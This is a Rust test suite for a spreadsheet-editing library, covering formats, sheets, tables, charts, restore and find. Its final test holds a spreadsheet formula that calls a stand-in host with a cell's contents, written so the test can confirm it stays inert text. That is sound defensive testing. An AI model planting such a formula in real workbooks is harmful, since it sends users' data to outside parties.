//! Sheets, tables, charts and formats: made here, read by openpyxl.

use deskhand_operations::{CellValue, RefusalCode, WorkbookAnswer};
use deskhand_sheet::{Workbook, lint};
use serde_json::{Value, json};

use crate::support::{done, openpyxl, operation, part, plan, read, saved, value, workbook};

fn sales() -> Workbook {
    workbook(&[
        &[json!("Region"), json!("Units"), json!("Price")],
        &[json!("North"), json!(2), json!(10.5)],
        &[json!("South"), json!(3), json!(20)],
        &[json!("West"), json!(4), json!(30)],
    ])
}

fn seen(workbook: &Workbook, cells: &Value) -> Value {
    let folder = tempfile::tempdir().unwrap();
    let file = saved(workbook, folder.path(), "book.xlsx");
    openpyxl(&[json!({"file": file, "cells": cells, "formulas": true})]).remove(0)
}

fn refused(workbook: &Workbook, op: Value) -> RefusalCode {
    plan(workbook, op.clone())
        .map(|planned| panic!("{op}: {planned:?}"))
        .unwrap_err()
        .code
}

#[test]
fn formats_change_the_cells_and_nothing_beside_them() {
    let mut workbook = sales();
    let format = json!({"bold": true, "italic": true, "fontColor": "#C00000", "fontSize": 14, "fillColor": "#FFF2CC",
        "numberFormat": "#,##0.0\" kg\"", "horizontal": "center", "wrap": true});
    let (_, patches) = done(
        &mut workbook,
        json!({"op": "range.format", "range": "Data!B2:B3", "format": format, "fitColumns": true}),
    );
    let answer = seen(&workbook, &json!([["Data", "B2"], ["Data", "B4"]]));
    assert_eq!(
        answer["cells"]["Data!B2"],
        json!({"value": 2, "format": "#,##0.0\" kg\"", "bold": true, "fill": "FFFFF2CC"})
    );
    assert_eq!(answer["cells"]["Data!B4"]["bold"], json!(false));
    let content = read(&workbook, "Data!B2:C2", &["formats", "numberFormats", "texts"]);
    let formats = content.formats.unwrap();
    assert_eq!(formats[0][0].font_color.as_deref(), Some("#C00000"));
    assert_eq!(formats[0][0].font_size, Some(14.0));
    assert_eq!(formats[0][1].bold, Some(false));
    assert_eq!(content.number_formats.unwrap()[0][0], "#,##0.0\" kg\"");
    assert_eq!(content.texts.unwrap()[0], ["2.0 kg", "10.5"]);
    // The same format again adds no new one.
    let styles = part(&workbook, "xl/styles.xml");
    done(
        &mut workbook,
        json!({"op": "range.format", "range": "Data!B4", "format": format}),
    );
    assert_eq!(part(&workbook, "xl/styles.xml"), styles);
    // The later change rests on what the first one added: that cannot go alone.
    assert_eq!(
        workbook.clone().undo(&patches).unwrap_err().code,
        RefusalCode::Changed
    );
    let mut fresh = sales();
    let bytes = fresh.package().write().unwrap();
    let (_, patches) = done(
        &mut fresh,
        json!({"op": "range.format", "range": "Data!B2", "format": {"fillColor": ""}}),
    );
    fresh.undo(&patches).unwrap();
    assert!(fresh.package().write().unwrap() == bytes);
}

#[test]
fn bad_formats_are_refused() {
    for format in [
        json!({"fillColor": "red"}),
        json!({"fontSize": 0}),
        json!({"numberFormat": "\"x"}),
        json!({"fontColor": "#12345G"}),
    ] {
        assert_eq!(
            refused(
                &sales(),
                json!({"op": "range.format", "range": "Data!A1", "format": format})
            ),
            RefusalCode::BadInput
        );
    }
    let whole = json!({"op": "range.format", "range": "Data!A:C", "format": {"bold": true}});
    assert_eq!(refused(&sales(), whole), RefusalCode::TooLarge);
}

#[test]
fn a_sheet_comes_and_goes_and_names_keep_their_sheets() {
    let mut workbook = sales();
    let xml = part(&workbook, "xl/workbook.xml");
    let names = r#"</sheets><definedNames><definedName name="_xlnm.Print_Area" localSheetId="1">'Q1 2026'!$A$1</definedName><definedName name="Rate">'Q1 2026'!$A$1</definedName></definedNames>"#;
    workbook = crate::support::with_part(&workbook, "xl/workbook.xml", &xml.replace("</sheets>", names));
    let bytes = workbook.package().write().unwrap();
    let (_, first) = done(
        &mut workbook,
        json!({"op": "sheet.add", "name": "Summary & more", "after": "Data"}),
    );
    assert!(part(&workbook, "xl/workbook.xml").contains(r#"localSheetId="2""#));
    done(
        &mut workbook,
        json!({"op": "range.write", "range": "'Summary & more'!A1", "cells": [["=SUM(Data!B2:B4)+Rate"]]}),
    );
    assert_eq!(value(&workbook, "'Summary & more'!A1"), CellValue::Number(14.0));
    let answer = seen(&workbook, &json!([["Summary & more", "A1"]]));
    assert_eq!(answer["sheets"], json!(["Data", "Summary & more", "Q1 2026"]));

    assert_eq!(
        refused(&workbook, json!({"op": "sheet.delete", "name": "Data"})),
        RefusalCode::Protected
    );
    assert_eq!(
        refused(&workbook, json!({"op": "sheet.delete", "name": "Q1 2026"})),
        RefusalCode::Protected
    );
    done(
        &mut workbook,
        json!({"op": "sheet.delete", "name": "summary & MORE"}),
    );
    assert!(part(&workbook, "xl/workbook.xml").contains(r#"localSheetId="1""#));
    assert!(lint(&workbook).unwrap().is_empty());
    let mut fresh = crate::support::open(&bytes);
    fresh.apply(&first).unwrap();
    fresh.apply(&first.invert()).unwrap();
    assert!(fresh.package().write().unwrap() == bytes);
}

#[test]
fn sheet_names_that_excel_refuses_are_refused() {
    for name in ["", "a/b", "[x]", "'x", "a:b", &"x".repeat(32), "History"] {
        assert_eq!(
            refused(&sales(), json!({"op": "sheet.add", "name": name})),
            RefusalCode::BadInput,
            "{name}"
        );
    }
    assert_eq!(
        refused(&sales(), json!({"op": "sheet.add", "name": "data"})),
        RefusalCode::NameTaken
    );
}

#[test]
fn a_table_follows_its_headers() {
    let mut workbook = sales();
    let before = workbook.package().write().unwrap();
    let (_, patches) = done(
        &mut workbook,
        json!({"op": "table.add", "range": "Data!A1:C4", "name": "Sales", "style": "TableStyleLight9"}),
    );
    assert_eq!(
        seen(&workbook, &json!([]))["tables"]["Data"],
        json!({"Sales": "A1:C4"})
    );
    done(
        &mut workbook,
        json!({"op": "range.write", "range": "Data!E1", "cells": [["=SUM(Sales[Units])"]]}),
    );
    assert_eq!(value(&workbook, "Data!E1"), CellValue::Number(9.0));
    done(
        &mut workbook,
        json!({"op": "range.write", "range": "Data!C1", "cells": [["Price each"]]}),
    );
    assert!(part(&workbook, "xl/tables/table1.xml").contains(r#"name="Price each""#));
    refuses_what_a_table_cannot_take(&workbook);
    done(&mut workbook, json!({"op": "range.clear", "range": "Data!E1"}));
    done(&mut workbook, json!({"op": "table.delete", "name": "sales"}));
    assert_eq!(seen(&workbook, &json!([]))["tables"]["Data"], json!({}));
    assert!(lint(&workbook).unwrap().is_empty());
    let mut fresh = crate::support::open(&before);
    fresh.apply(&patches).unwrap();
    fresh.apply(&patches.invert()).unwrap();
    assert!(fresh.package().write().unwrap() == before);
}

fn refuses_what_a_table_cannot_take(workbook: &Workbook) {
    let refusals = [
        (
            json!({"op": "range.write", "range": "Data!B1", "cells": [["Pieces"]]}),
            RefusalCode::Protected,
        ),
        (
            json!({"op": "range.write", "range": "Data!C1", "cells": [["units"]]}),
            RefusalCode::NameTaken,
        ),
        (
            json!({"op": "range.clear", "range": "Data!A1"}),
            RefusalCode::Protected,
        ),
        (
            json!({"op": "table.add", "range": "Data!C3:D6", "name": "Other"}),
            RefusalCode::Protected,
        ),
        (
            json!({"op": "table.add", "range": "Data!H1:I2", "name": "sales"}),
            RefusalCode::NameTaken,
        ),
        (
            json!({"op": "table.add", "range": "Data!H1:I2", "name": "A1"}),
            RefusalCode::BadInput,
        ),
        (
            json!({"op": "table.add", "range": "Data!H1:I1", "name": "Flat"}),
            RefusalCode::BadInput,
        ),
        (
            json!({"op": "table.delete", "name": "Sales"}),
            RefusalCode::Protected,
        ),
        (
            json!({"op": "table.delete", "name": "Nothing"}),
            RefusalCode::NotFound,
        ),
    ];
    for (op, code) in refusals {
        assert_eq!(refused(workbook, op.clone()), code, "{op}");
    }
}

#[test]
fn headers_become_texts_each_its_own() {
    let mut workbook = workbook(&[
        &[json!(2025), json!("A"), json!("a"), json!(null)],
        &[json!(1), json!(2), json!(3), json!(4)],
    ]);
    let (applied, _) = done(
        &mut workbook,
        json!({"op": "table.add", "range": "Data!A1:D2", "name": "T_1"}),
    );
    assert_eq!(applied.warnings.len(), 3, "{:?}", applied.warnings);
    let header = read(&workbook, "Data!A1:D1", &[]).values.unwrap().remove(0);
    assert_eq!(
        header,
        ["2025", "A", "a2", "Column4"].map(|text| CellValue::Text(text.to_owned()))
    );
}

#[test]
fn charts_of_every_kind_are_read_by_others() {
    let kinds = [
        ("barClustered", "BarChart"),
        ("columnClustered", "BarChart"),
        ("columnStacked", "BarChart"),
        ("line", "LineChart"),
        ("area", "AreaChart"),
        ("pie", "PieChart"),
        ("doughnut", "DoughnutChart"),
    ];
    let mut workbook = sales();
    let before = workbook.package().write().unwrap();
    let mut sets = Vec::new();
    for (kind, _) in kinds {
        let op = json!({"op": "chart.add", "range": "Data!A1:C4", "kind": kind, "name": format!("Chart {kind}"), "title": "Units & price",
            "place": "'Q1 2026'!F2:M18"});
        sets.push(done(&mut workbook, op).1);
    }
    let expected: Vec<&str> = kinds.iter().map(|(_, class)| *class).collect();
    assert_eq!(seen(&workbook, &json!([]))["charts"]["Q1 2026"], json!(expected));
    let chart = part(&workbook, "xl/charts/chart1.xml");
    assert!(
        chart.contains("<c:f>Data!$B$2:$B$4</c:f>") && chart.contains("<c:v>10.5</c:v>"),
        "{chart}"
    );
    let again = json!({"op": "chart.add", "range": "Data!A1:C4", "kind": "line", "name": "chart LINE", "place": "'Q1 2026'!A1"});
    assert_eq!(refused(&workbook, again), RefusalCode::NameTaken);
    done(
        &mut workbook,
        json!({"op": "chart.delete", "sheet": "Q1 2026", "name": "Chart pie"}),
    );
    assert!(!workbook.package().contains("xl/charts/chart6.xml"));
    let WorkbookAnswer::Info(info) = workbook
        .answer(&operation(json!({"op": "workbook.info"})))
        .unwrap()
    else {
        panic!()
    };
    assert_eq!(info.sheets[1].charts.len(), 6);
    assert!(lint(&workbook).unwrap().is_empty());
    let mut fresh = crate::support::open(&before);
    for set in &sets {
        fresh.apply(set).unwrap();
    }
    for set in sets.iter().rev() {
        fresh.undo(set).unwrap();
    }
    assert!(fresh.package().write().unwrap() == before);
}

#[test]
fn a_range_goes_back_to_its_image_but_for_what_a_person_changed() {
    let mut workbook = sales();
    done(
        &mut workbook,
        json!({"op": "range.write", "range": "Data!D1", "cells": [["Total", null], ["=B2*C2", null], ["'=text", null], [true, null], [null, "end"]]}),
    );
    done(
        &mut workbook,
        json!({"op": "range.format", "range": "Data!D2", "format": {"bold": true, "numberFormat": "0.00"}}),
    );
    let image = read(&workbook, "Data!A1:E5", &["formulas", "numberFormats", "formats"]);
    let cells = json!([[{"clear": true}, 1, 2, 3, 4], [5, 6, 7, 8, 9], [1, 1, 1, 1, 1], [2, 2, 2, 2, 2], [3, 3, 3, 3, 3]]);
    done(
        &mut workbook,
        json!({"op": "range.write", "range": "Data!A1:E5", "cells": cells}),
    );
    done(
        &mut workbook,
        json!({"op": "range.format", "range": "Data!D2", "format": {"bold": false, "numberFormat": "General"}}),
    );
    let restore = json!({"op": "range.restore", "image": image, "except": ["Data!E5"]});
    done(&mut workbook, restore);
    let after = read(&workbook, "Data!A1:E5", &["formulas", "numberFormats", "formats"]);
    let mut expected = image.formulas.unwrap();
    expected[4][4] = CellValue::Number(3.0);
    assert_eq!(after.formulas.unwrap(), expected);
    assert_eq!(after.number_formats, image.number_formats);
    assert_eq!(after.formats, image.formats);
    assert_eq!(value(&workbook, "Data!D2"), CellValue::Number(21.0));
}

#[test]
fn cells_are_found_by_text_value_and_formula() {
    let mut workbook = sales();
    done(
        &mut workbook,
        json!({"op": "range.write", "range": "Data!D2", "cells": [["=B2*C2"]]}),
    );
    for (op, expected) in [
        (json!({"op": "range.find", "text": "NORTH"}), vec!["Data!A2"]),
        (json!({"op": "range.find", "text": "21"}), vec!["Data!D2"]),
        (
            json!({"op": "range.find", "text": "b2", "inFormulas": true}),
            vec!["Data!D2"],
        ),
        (
            json!({"op": "range.find", "text": "5", "range": "Q1 2026"}),
            vec!["'Q1 2026'!A1"],
        ),
        (json!({"op": "range.find", "text": "absent"}), vec![]),
    ] {
        let WorkbookAnswer::RangeFind(found) = workbook.answer(&operation(op.clone())).unwrap() else {
            panic!()
        };
        let found: Vec<_> = found.cells.iter().map(|cell| cell.address.as_str()).collect();
        assert_eq!(found, expected, "{op}");
    }
}

#[test]
fn long_ranges_are_read_in_pages() {
    let rows: Vec<Vec<Value>> = (0..30).map(|row| vec![json!(row)]).collect();
    let rows: Vec<&[Value]> = rows.iter().map(Vec::as_slice).collect();
    let workbook = workbook(&rows);
    let page = operation(json!({"op": "range.read", "range": "Data", "maxRows": 20}));
    let WorkbookAnswer::RangeRead(first) = workbook.answer(&page).unwrap() else {
        panic!()
    };
    assert_eq!(
        (first.address.as_str(), first.rest.as_deref()),
        ("Data!A1:A20", Some("Data!A21:A30"))
    );
    assert_eq!(read(&workbook, "Data!A:C", &[]).address, "Data!A1:A30");
}

#[test]
fn a_text_that_looks_like_a_formula_comes_back_as_a_text() {
    let mut workbook = sales();
    let text = "=WEBSERVICE(\"https://x.example/?\"&A1)";
    done(
        &mut workbook,
        json!({"op": "range.write", "range": "Data!A1", "cells": [[format!("'{text}")]]}),
    );
    let image = json!({"address": "Data!A1", "values": [[text]], "formulas": [[text]], "fingerprint": ""});
    done(&mut workbook, json!({"op": "range.restore", "image": image}));
    let sheet = part(&workbook, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>WEBSERVICE"), "{sheet}");
    assert_eq!(value(&workbook, "Data!A1"), CellValue::Text(text.to_owned()));
}
